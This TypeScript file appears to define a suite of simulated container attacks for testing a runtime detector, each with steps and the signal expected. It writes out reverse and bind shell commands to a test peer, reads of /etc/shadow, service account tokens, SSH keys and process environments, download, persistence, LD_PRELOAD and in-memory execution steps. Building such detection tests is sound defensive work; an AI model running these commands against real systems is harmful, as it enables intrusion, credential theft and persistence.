import { createHash } from 'node:crypto';
import { canonicalJson } from '../../ledger/index.ts';
import { type Digest, parseDigest } from '../../oci/index.ts';
import { type Attack, peerAddress, type Step } from './model.ts';

const tool = '/tmp/busybox-hf';
const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const sshKey = '/root/.ssh/id_ed25519';
const dropTool: Step = { do: 'drop', path: tool, bytes: 'tool' };
const plant = (path: string): Step => ({ do: 'drop', path, bytes: 'text', text: 'planted by an attack test\n' });
const asRoot = (...command: readonly string[]): Step => ({ do: 'exec', command, as: 'root' });
const exec = (...command: readonly string[]): Step => ({ do: 'exec', command });
const text = (path: string, content: string): Step => ({ do: 'drop', path, bytes: 'text', text: content });

/** Bytes, files and peers that are not the image's. */
const loud: readonly Attack[] = [
  {
    id: 'drop-tmp',
    kind: 'loud',
    does: 'runs a program that was dropped into /tmp',
    ways: [[dropTool, exec(tool, 'true')]],
    told: { what: 'program', path: tool },
  },
  {
    id: 'drop-shm',
    kind: 'loud',
    does: 'runs a program that was dropped into /dev/shm',
    ways: [[{ do: 'drop', path: '/dev/shm/busybox-hf', bytes: 'tool' }, exec('/dev/shm/busybox-hf', 'true')]],
    told: { what: 'program', path: '/dev/shm/busybox-hf' },
  },
  {
    id: 'drop-path',
    kind: 'loud',
    does: 'runs a program that was dropped among the system’s',
    ways: [[{ do: 'drop', path: '/usr/bin/busybox-hf', bytes: 'tool' }, exec('/usr/bin/busybox-hf', 'true')]],
    told: { what: 'program', path: '/usr/bin/busybox-hf' },
  },
  {
    id: 'drop-hidden-name',
    kind: 'loud',
    does: 'runs a dropped program under the name of a system daemon',
    ways: [
      [
        { do: 'drop', path: '/tmp/.cache/busybox-kworker', bytes: 'tool' },
        exec('/tmp/.cache/busybox-kworker', 'sleep', '0.1'),
      ],
    ],
    told: { what: 'program', path: '/tmp/.cache/busybox-kworker' },
  },
  {
    id: 'drop-library',
    kind: 'loud',
    does: 'loads a library that was dropped, by LD_PRELOAD',
    ways: [
      [
        { do: 'drop', path: '/tmp/libhf.so', bytes: 'library' },
        exec('{sh}', '-c', 'LD_PRELOAD=/tmp/libhf.so; export LD_PRELOAD; {cat} /dev/null'),
      ],
      [
        { do: 'drop', path: '/tmp/libhf.so', bytes: 'library' },
        exec('{env}', 'LD_PRELOAD=/tmp/libhf.so', '{cat}', '/dev/null'),
      ],
    ],
    told: { what: 'file', path: '/tmp/libhf.so' },
  },
  {
    id: 'drop-shell-script',
    kind: 'loud',
    does: 'runs a dropped script by the image’s shell',
    ways: [[text('/tmp/hf-script.sh', 'true\n'), exec('{sh}', '/tmp/hf-script.sh')]],
    told: { what: 'file', path: '/tmp/hf-script.sh' },
  },
  {
    id: 'drop-interpreted',
    kind: 'loud',
    does: 'runs a dropped script by the image’s interpreter',
    ways: [
      [text('/tmp/hf-script.py', 'pass\n'), exec('{python3}', '/tmp/hf-script.py')],
      [text('/tmp/hf-script.js', 'void 0;\n'), exec('{node}', '/tmp/hf-script.js')],
      [text('/tmp/hf-script.pl', '1;\n'), exec('{perl}', '/tmp/hf-script.pl')],
      [text('/tmp/hf-script.rb', 'nil\n'), exec('{ruby}', '/tmp/hf-script.rb')],
      [text('/tmp/hf-script.php', '<?php\n'), exec('{php}', '/tmp/hf-script.php')],
    ],
    told: { what: 'arguments', text: '/tmp/hf-script.' },
  },
  {
    id: 'memory-program',
    kind: 'loud',
    does: 'runs a program from memory, without a file',
    ways: [
      [
        dropTool,
        exec(
          '{python3}',
          '-c',
          `import os\nf=os.memfd_create("hf")\nos.write(f,open("${tool}","rb").read())\nos.execve(f,["hf-memory-"+"run","true"],os.environ)`,
        ),
      ],
      [
        dropTool,
        exec(
          '{perl}',
          '-e',
          `$n="hf";$f=syscall(319,$n,0);open($o,">&=",$f);binmode $o;open($i,"<","${tool}");binmode $i;$/=undef;print $o <$i>;$o->flush;exec { "/proc/self/fd/$f" } "hf-memory-"."run","true"`,
        ),
      ],
    ],
    told: { what: 'arguments', text: 'hf-memory-run' },
  },
  {
    id: 'tool-reads-shadow',
    kind: 'loud',
    does: 'reads password hashes with a tool of its own',
    ways: [[dropTool, plant('/etc/shadow-'), asRoot(tool, 'cat', '/etc/shadow-')]],
    told: { what: 'file', path: '/etc/shadow-' },
  },
  {
    id: 'tool-writes-preload',
    kind: 'loud',
    does: 'writes /etc/ld.so.preload with a tool of its own',
    ways: [[dropTool, asRoot(tool, 'touch', '/etc/ld.so.preload')]],
    told: { what: 'file', path: '/etc/ld.so.preload' },
  },
  {
    id: 'tool-connects',
    kind: 'loud',
    does: 'connects to a new host with a tool of its own',
    ways: [[dropTool, { do: 'peer', port: 4444 }, exec(tool, 'nc', '-w', '1', peerAddress, '4444')]],
    told: { what: 'peer', port: 4444 },
  },
  {
    id: 'tool-mines',
    kind: 'loud',
    does: 'connects to a mining pool’s port with a tool of its own',
    ways: [[dropTool, { do: 'peer', port: 3333 }, exec(tool, 'nc', '-w', '1', peerAddress, '3333')]],
    told: { what: 'peer', port: 3333 },
  },
  {
    id: 'tool-bind-shell',
    kind: 'loud',
    does: 'listens for a shell with a tool of its own',
    ways: [[dropTool, exec(tool, 'timeout', '1', tool, 'nc', '-l', '-p', '4445', '-e', '/bin/sh')]],
    told: { what: 'port', port: 4445 },
  },
];

/** Only what the image holds. */
const offTheLand: readonly Attack[] = [
  {
    id: 'shell',
    kind: 'off-the-land',
    does: 'opens a shell from outside',
    ways: [[exec('{sh}', '-c', ': hf-shell')]],
    told: { what: 'arguments', text: 'hf-shell' },
  },
  {
    id: 'other-user',
    kind: 'off-the-land',
    does: 'runs the service’s own program as another user',
    ways: [[{ do: 'exec', command: ['{service}', '--hf-other-user'], as: 'other' }]],
    told: { what: 'arguments', text: '--hf-other-user' },
  },
  {
    id: 'read-shadow',
    kind: 'off-the-land',
    does: 'reads password hashes',
    ways: [[asRoot('{cat}', '/etc/shadow')]],
    told: { what: 'file', path: '/etc/shadow', orGiven: true },
  },
  {
    id: 'read-token',
    kind: 'off-the-land',
    does: 'reads the service account’s token',
    ways: [[plant(token), asRoot('{cat}', token)]],
    told: { what: 'file', path: token, orGiven: true },
  },
  {
    id: 'read-ssh-key',
    kind: 'off-the-land',
    does: 'reads a private key',
    ways: [[plant(sshKey), asRoot('{cat}', sshKey)]],
    told: { what: 'file', path: sshKey, orGiven: true },
  },
  {
    id: 'dump-environment',
    kind: 'off-the-land',
    does: 'reads the secrets in the service’s environment',
    ways: [[asRoot('{cat}', '/proc/1/environ')]],
    told: { what: 'file', path: '/proc/1/environ', orGiven: true },
  },
  {
    id: 'write-cron',
    kind: 'off-the-land',
    does: 'writes a cron job',
    ways: [[asRoot('{sh}', '-c', 'mkdir -p /etc/cron.d; echo "# hf" > /etc/cron.d/hf-job')]],
    told: { what: 'file', path: '/etc/cron.d/hf-job', orGiven: true },
  },
  {
    id: 'write-profile',
    kind: 'off-the-land',
    does: 'writes what each login runs',
    ways: [[asRoot('{sh}', '-c', 'mkdir -p /etc/profile.d; echo "# hf" > /etc/profile.d/hf.sh')]],
    told: { what: 'file', path: '/etc/profile.d/hf.sh', orGiven: true },
  },
  {
    id: 'write-authorized-keys',
    kind: 'off-the-land',
    does: 'writes a key that may log in',
    ways: [[asRoot('{sh}', '-c', 'mkdir -p /root/.ssh; echo "# hf" > /root/.ssh/authorized_keys')]],
    told: { what: 'file', path: '/root/.ssh/authorized_keys', orGiven: true },
  },
  {
    id: 'stage-data',
    kind: 'off-the-land',
    does: 'packs configuration to take it away',
    ways: [[asRoot('{tar}', '-cf', '/tmp/hf-staged.tar', '/etc/passwd')]],
    told: { what: 'file', path: '/tmp/hf-staged.tar', orGiven: true },
  },
  {
    id: 'package-manager',
    kind: 'off-the-land',
    does: 'installs a package',
    ways: [
      [asRoot('{apt-get}', 'install', '-y', 'hf-package')],
      [asRoot('{apk}', 'add', 'hf-package')],
      [asRoot('{dnf}', 'install', '-y', 'hf-package')],
      [asRoot('{pip3}', 'install', '--no-index', 'hf-package')],
      [asRoot('{npm}', 'install', '--offline', 'hf-package')],
      [asRoot('{dpkg}', '-i', 'hf-package')],
    ],
    told: { what: 'arguments', text: 'hf-package' },
  },
  {
    id: 'reverse-shell',
    kind: 'off-the-land',
    does: 'connects a shell to a new host',
    ways: [
      [{ do: 'peer', port: 4446 }, exec('{bash}', '-c', `exec 3<>/dev/tcp/${peerAddress}/4446; echo hf >&3`)],
      [{ do: 'peer', port: 4446 }, exec('{nc}', '-w', '1', peerAddress, '4446', '-e', '{sh}')],
      [
        { do: 'peer', port: 4446 },
        exec('{python3}', '-c', `import socket\nsocket.create_connection(("${peerAddress}",4446),1)`),
      ],
      [
        { do: 'peer', port: 4446 },
        exec('{node}', '-e', `require("net").connect(4446,"${peerAddress}").setTimeout(1000).unref()`),
      ],
    ],
    told: { what: 'peer', port: 4446 },
  },
  {
    id: 'bind-shell',
    kind: 'off-the-land',
    does: 'listens for a shell with what the image has',
    ways: [
      [exec('{timeout}', '1', '{nc}', '-l', '-p', '4447')],
      [exec('{python3}', '-c', 'import socket\ns=socket.socket()\ns.bind(("0.0.0.0",4447))\ns.listen()')],
      [
        exec(
          '{perl}',
          '-e',
          'use Socket; socket($s,PF_INET,SOCK_STREAM,6); bind($s,sockaddr_in(4447,INADDR_ANY)); listen($s,1)',
        ),
      ],
    ],
    told: { what: 'port', port: 4447 },
  },
  {
    id: 'download',
    kind: 'off-the-land',
    does: 'fetches something from a new host',
    ways: [
      [{ do: 'peer', port: 8081 }, exec('{curl}', '-m', '1', '-s', `http://${peerAddress}:8081/hf`)],
      [{ do: 'peer', port: 8081 }, exec('{wget}', '-q', '-T', '1', '-O', '/dev/null', `http://${peerAddress}:8081/hf`)],
    ],
    told: { what: 'peer', port: 8081 },
  },
];

/** Destroys what it replaces: nothing may come after it. */
const last: readonly Attack[] = [
  {
    id: 'replace-service',
    kind: 'loud',
    does: 'replaces the service’s own program and runs it',
    ways: [[{ do: 'drop', path: '{service}', bytes: 'tool' }, exec('{service}', '--hf-replaced')]],
    told: { what: 'arguments', text: '--hf-replaced' },
  },
];

export const attacks: readonly Attack[] = [...loud, ...offTheLand, ...last];

/** Of the whole table: what was run against a profile can be told later. */
export function attackSetDigest(set: readonly Attack[] = attacks): Digest {
  const text = canonicalJson(set, { depth: 16, bytes: 1 << 20 });
  return parseDigest(`sha256:${createHash('sha256').update(text).digest('hex')}`, 'attack set');
}
